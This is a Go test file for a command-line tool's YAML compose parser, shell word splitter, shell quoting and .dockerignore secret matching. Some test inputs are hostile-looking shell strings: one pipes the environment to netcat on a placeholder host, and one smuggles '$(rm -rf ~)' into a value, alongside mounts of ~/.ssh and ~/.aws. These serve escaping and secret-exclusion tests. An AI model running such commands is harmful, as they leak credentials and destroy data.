package cmdline

import (
	"fmt"
	"strings"
	"testing"
)

// TestParseYAML: the YAML subset compose files are written in.
func TestParseYAML(t *testing.T) {
	for _, tt := range []struct {
		text, want string
	}{
		{"a: 1\nb: 'x: y' # c\nc: \"q\\\"\"\n", `{a:1 b:x: y c:q"}`},
		{"s:\n  - a\n  - 'b c'\n  -\n    d: e\nt: [1, \"2, 3\", {x: y}]\n", `{s:[a b c {d:e}] t:[1 2, 3 {x: y}]}`},
		{"k:\n- a\n- b\nl: x\n", `{k:[a b] l:x}`},
		{"m:\n  - k: v\n    k2: v2\n  - x\n", `{m:[{k:v k2:v2} x]}`},
		{"c: |\n  line 1\n    line 2\n\n  line 3\nd: >-\n  a\n  b\ne: f\n", "{c:line 1\n  line 2\n\nline 3 d:a b e:f}"},
		{"x: &a\n  p: 1\n  q: 2\ny:\n  <<: *a\n  q: 3\nz: *a\n", `{x:{p:1 q:2} y:{p:1 q:3} z:{p:1 q:2}}`},
		{"a: [x,\n  y]\nb: ~\nc: !reset []\n", `{a:[x y] b: c:[]}`},
		{"# only\n---\na: b\n---\nc: d\n", `{a:b}`},
		{"- a\n- b\n", `[a b]`},
		{"a: http://x#y\nb: c #d\n", `{a:http://x#y b:c}`},
	} {
		if got := describeYAML(parseYAML(tt.text)); got != tt.want {
			t.Errorf("%q:\n got %s\nwant %s", tt.text, got, tt.want)
		}
	}
}

func describeYAML(n *yamlNode) string {
	switch {
	case n == nil:
		return "nil"
	case n.seq != nil:
		var items []string
		for _, e := range n.seq {
			items = append(items, describeYAML(e))
		}
		return "[" + strings.Join(items, " ") + "]"
	case n.vals != nil:
		var kv []string
		for _, k := range n.keys {
			kv = append(kv, k+":"+describeYAML(n.vals[k]))
		}
		return "{" + strings.Join(kv, " ") + "}"
	}
	return n.scalar
}

// TestComposeWords: a compose command string is split as a shell splits
// words, and a compose value is written as a shell word that expands only
// what compose expands.
func TestComposeWords(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`sh -c "env | nc x 80"`, `[sh -c env | nc x 80]`},
		{`echo 'a b' c\ d "e\"f" g;h`, `[echo a b c d e"f g;h]`},
		{`  `, `[]`},
	} {
		if got := fmt.Sprint(splitWords(tt.in)); got != tt.want {
			t.Errorf("splitWords(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
	for _, tt := range []struct{ in, want string }{
		{`npm`, `npm`},
		{`~/.ssh:/k`, `'~/.ssh:/k'`},
		{`a b`, `'a b'`},
		{`${HOME}/.aws:/a`, `"${HOME}/.aws:/a"`},
		{`$$HOME $(id) "x" $1 ${X:-$(rm -rf ~)}`, `"\$HOME \$(id) \"x\" \$1 ${X:-\$(rm -rf ~)}"`},
	} {
		if got := composeWord(tt.in); got != tt.want {
			t.Errorf("composeWord(%q) = %s, want %s", tt.in, got, tt.want)
		}
	}
}

// TestDockerIgnores: a context's secret left out by its .dockerignore is
// not sent.
func TestDockerIgnores(t *testing.T) {
	for _, tt := range []struct {
		text, name string
		want       bool
	}{
		{".env\n", ".env", true},
		{"/.env*\n", ".env.local", true},
		{"**/.env\n", ".env", true},
		{"*\n!src\n", ".env", true},
		{"*\n!.env\n", ".env", false},
		{"node_modules\n# .env\n", ".env", false},
		{"", ".env", false},
	} {
		if got := dockerIgnores(tt.text, tt.name); got != tt.want {
			t.Errorf("dockerIgnores(%q, %q) = %v, want %v", tt.text, tt.name, got, tt.want)
		}
	}
}
